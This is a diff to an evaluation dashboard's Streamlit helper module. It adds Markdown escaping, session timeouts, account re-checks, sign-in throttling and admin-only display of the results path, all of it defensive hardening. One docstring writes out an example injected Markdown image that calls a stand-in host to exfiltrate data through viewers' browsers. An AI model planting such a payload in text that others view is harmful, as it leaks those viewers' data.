@@ -10,15 +10,17 @@ from __future__ import annotations
 
 import os
 import re
-import threading
+import string
+import time
 from collections.abc import Iterator
 from contextlib import contextmanager
 from pathlib import Path
+from typing import Any
 
 import streamlit as st
 
 from evalharness.community import accounts, compare, items, overview, reviews
-from evalharness.community.accounts import Account
+from evalharness.community.accounts import Account, PermissionDenied
 from evalharness.config import Config, load_config
 from evalharness.errors import EvalHarnessError, StoreError
 from evalharness.monitor.views import MonitorView
@@ -48,6 +50,12 @@ def db_path() -> str:
     return settings().store_url()
 
 
+def suite_dirs() -> list[Path]:
+    """Where a suite's folder is looked for when the store does not know it: `[run] suites_dir`."""
+    config = settings()
+    return [config.resolve(config.run.suites_dir)]
+
+
 _STORES: dict[tuple[str, float], Store] = {}
 
 
@@ -65,47 +73,39 @@ def store(path: str | None = None, *, write: bool = False) -> Store:
     return _STORES[key]
 
 
-_RUN = threading.local()
+def remember_pages(pages: list[Any]) -> None:
+    """app.py hands over this run's st.Page objects, so a page can open another with `switch_to`."""
+    st.session_state["_pages"] = {page.url_path or page.title.lower(): page for page in pages}
 
 
-@contextmanager
-def app_run() -> Iterator[None]:
-    """app.py wraps each run in this, so a page can tell whether it was reached through app.py."""
-    _RUN.in_app = True
-    try:
-        yield
-    finally:
-        _RUN.in_app = False
-
-
-def _through_app() -> None:
-    """Make sure app.py (sidebar, sign-in, navigation) runs around this page.
-
-    Because a `pages/` folder sits next to app.py, Streamlit starts a fresh server in its older file-based
-    mode: the first request for a page URL (a bookmark, a reload after a restart) runs that page file alone,
-    with no sidebar and no sign-in. app.py's `st.navigation` switches the server to the navigation mode; here
-    we do the same and rerun, so the request is served through app.py and lands on the page asked for.
-    """
-    if getattr(_RUN, "in_app", False):
+def switch_to(name: str) -> None:
+    """Open another page (by its name in views.PAGES) — only one this person may see."""
+    page = st.session_state.get("_pages", {}).get(name)
+    if page is None:
+        st.warning("That page is not available to you.")
         return
-    from streamlit.runtime.pages_manager import PagesManager
-
-    PagesManager.uses_pages_directory = False  # what st.navigation itself sets
-    st.rerun()
+    st.switch_page(page)
 
 
-def page_start() -> str:
-    """Every page calls this first: it runs the page through app.py, enforces sign-in-to-view, and stops
-    with a plain explanation when there is nothing to show yet."""
-    _through_app()
+def viewing_allowed() -> None:
+    """Stop the page unless this person may look at all (`[dashboard] require_sign_in_to_view`)."""
     if settings().dashboard.require_sign_in_to_view and account() is None:
         st.info("This dashboard is open to signed-in reviewers only. Please sign in.")
         st.stop()
+
+
+def page_start() -> str:
+    """The first line of every page's `render()`: signed in if viewing needs it, and a results file to read.
+
+    app.py already decided, before calling the page, that this person may see it; this checks again (a page
+    is only ever run by app.py, but a second lock costs nothing) and stops with a plain explanation when there
+    is nothing to show yet.
+    """
+    viewing_allowed()
     path = db_path()
     if not _store_exists(path):
-        st.info(f"There are no results to show yet. The dashboard reads **{escape(store(path).display)}**, which "
-                "does not exist or holds no results yet. Run `evalharness run` first, or start the dashboard with "
-                "`--db` pointing at your results.")
+        st.info("There are no results to show yet: the store does not exist or holds no results yet. Run "
+                "`evalharness run` first, or start the dashboard with `--db` pointing at your results.")
         st.stop()
     return path
 
@@ -123,30 +123,45 @@ def friendly_errors() -> Iterator[None]:
     """Show a library error as a message on the page instead of a traceback."""
     try:
         yield
-    except StoreError as exc:
+    except StoreError:
         st.error("The results file is busy (a run may be writing to it) and could not be read just now. "
-                 f"Please wait a moment and reload the page. ({exc})")
+                 "Please wait a moment and reload the page.")
     except EvalHarnessError as exc:
-        st.error(str(exc))
+        st.error(escape(str(exc)))
 
 
 # -- text ------------------------------------------------------------------------------------------
 
-_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|$<>~])")
+#: Every ASCII punctuation character: escaped, none of them can start Markdown — no link, no image, no
+#: autolinked URL (`https\:\/\/…` is not recognised as one), no HTML, no maths.
+_MD_SPECIAL = re.compile("([" + re.escape(string.punctuation) + "])")
 
 
-def escape(text: str | None) -> str:
-    """Markdown-escape text people or models wrote, so `*`, `_` or `$` show as typed (and never as maths).
+def metric_label(name: str) -> str:
+    """How people read a metric's name (e.g. "chrF++"): from the metric's registry entry."""
+    from evalharness.registry import metric, RegistryError
+    from evalharness.errors import ConfigError
 
-    Stoney letters (â î û ṯ ẖ) are ordinary characters and pass through untouched.
+    try:
+        return metric(name).label
+    except (ConfigError, RegistryError):  # a metric stored by a plugin that is no longer installed
+        return name
+
+
+def escape(text: object) -> str:
+    """Text people, models or data files wrote, made safe for any Streamlit element that reads Markdown.
+
+    An injected `![x](https://host/?d=…)` would make every viewer's browser fetch that address (and leak
+    what the URL carries); escaped, it shows as typed. Stoney letters (â î û ṯ ẖ) pass through untouched.
     """
     if text is None:
         return ""
-    return _MD_SPECIAL.sub(r"\\\1", text).replace("\n", "  \n")
+    return _MD_SPECIAL.sub(r"\\\1", str(text)).replace("\n", "  \n")
 
 
 def show_text(label: str, text: str | None, *, empty: str = "(nothing)") -> None:
-    st.markdown(f"**{label}**")
+    """A bold label and a bordered box of untrusted text; both escaped (labels may carry checkpoint names)."""
+    st.markdown(f"**{escape(label)}**")
     with st.container(border=True):
         st.markdown(escape(text) if text else f"_{empty}_")
 
@@ -179,7 +194,7 @@ def trends(db: str):
 
 @st.cache_data(ttl=CACHE_SECONDS, show_spinner=False)
 def suites(db: str) -> list[overview.SuiteSummary]:
-    return overview.suites(store(db))
+    return overview.suites(store(db), search_dirs=suite_dirs())
 
 
 @st.cache_data(ttl=CACHE_SECONDS, show_spinner=False)
@@ -236,10 +251,63 @@ def clear_caches() -> None:
     st.cache_data.clear()
 
 
-# -- sign-in ---------------------------------------------------------------------------------------
+# -- sign-in and sessions --------------------------------------------------------------------------
 
 def account() -> Account | None:
+    """The signed-in account as checked at the start of this page run (see `refresh_session`)."""
     return st.session_state.get("account")
+
+
+def source() -> str:
+    """Where a sign-in comes from, for throttling: the browser's address, or — behind a reverse proxy on this
+    machine, when `[dashboard] trust_forwarded_for` says so — the last X-Forwarded-For entry the proxy added."""
+    address = st.context.ip_address
+    address = address if isinstance(address, str) else None  # None on loopback (and outside a real server)
+    if address is None and settings().dashboard.trust_forwarded_for:
+        forwarded = st.context.headers.get("X-Forwarded-For")
+        address = forwarded.split(",")[-1].strip() or None if isinstance(forwarded, str) else None
+    return address or "local"
+
+
+def _end_session(message: str) -> None:
+    st.session_state.pop("account", None)
+    st.session_state.pop("last_seen", None)
+    st.session_state["sign_in_message"] = ("info", message)
+
+
+def refresh_session() -> Account | None:
+    """app.py calls this at the start of every page run: a session idle too long, or whose account was removed,
+    got a new role or a new password since it signed in, is signed out here — before any page is drawn."""
+    who = account()
+    if who is None:
+        return None
+    now = time.monotonic()
+    idle = now - float(st.session_state.get("last_seen", now))
+    if idle > settings().dashboard.idle_timeout_minutes * 60:
+        _end_session("You were signed out after a while without activity. Please sign in again.")
+        return None
+    try:
+        current = accounts.check_session(store(), who)
+    except StoreError:
+        current = who  # the file is busy: keep the session; every write checks again
+    if current is None:
+        _end_session("Your account changed (password, role, or it was removed). Please sign in again.")
+        return None
+    st.session_state["last_seen"] = now
+    return current
+
+
+def require_account(role: str = "reviewer") -> Account:
+    """Before a write, an export or a publication: the session's account, checked against the database now."""
+    who = account()
+    if who is None:
+        raise PermissionDenied("you are signed out; sign in again on the left")
+    if accounts.check_session(store(write=True), who) is None:
+        _end_session("Your account changed (password, role, or it was removed). Please sign in again.")
+        raise PermissionDenied("your account changed since you signed in; sign in again on the left")
+    if role == "admin" and not who.is_admin:
+        raise PermissionDenied("only an admin can do this")
+    return who
 
 
 def _sign_in() -> None:
@@ -251,24 +319,24 @@ def _sign_in() -> None:
         st.session_state["sign_in_message"] = ("warning", "Please type your name and your password.")
         return
     try:
-        result = accounts.sign_in(store(write=True), name, password, settings().dashboard)
+        result = accounts.sign_in(store(write=True), name, password, settings().dashboard, source=source())
     except StoreError:
         st.session_state["sign_in_message"] = ("error", "The results file is busy; please try again in a moment.")
         return
     if result.account is not None:
         st.session_state["account"] = result.account
+        st.session_state["last_seen"] = time.monotonic()
         st.session_state["sign_in_message"] = ("success", result.message)
     else:
         st.session_state["sign_in_message"] = ("error", result.message)
 
 
 def _sign_out() -> None:
-    st.session_state.pop("account", None)
-    st.session_state["sign_in_message"] = ("info", "Signed out.")
+    _end_session("Signed out.")
 
 
 def sidebar() -> None:
-    """Who is signed in, or the sign-in form; and which results file this is."""
+    """Who is signed in, or the sign-in form. The results file's path is shown to admins only."""
     with st.sidebar:
         who = account()
         if who is not None:
@@ -283,5 +351,6 @@ def sidebar() -> None:
         message = st.session_state.pop("sign_in_message", None)
         if message:
             kind, text = message
-            getattr(st, kind)(text)
-        st.caption(f"Results: {store(db_path()).display}")
+            getattr(st, kind)(escape(text))
+        if who is not None and who.is_admin:
+            st.caption(f"Results: {escape(store(db_path()).display)}")
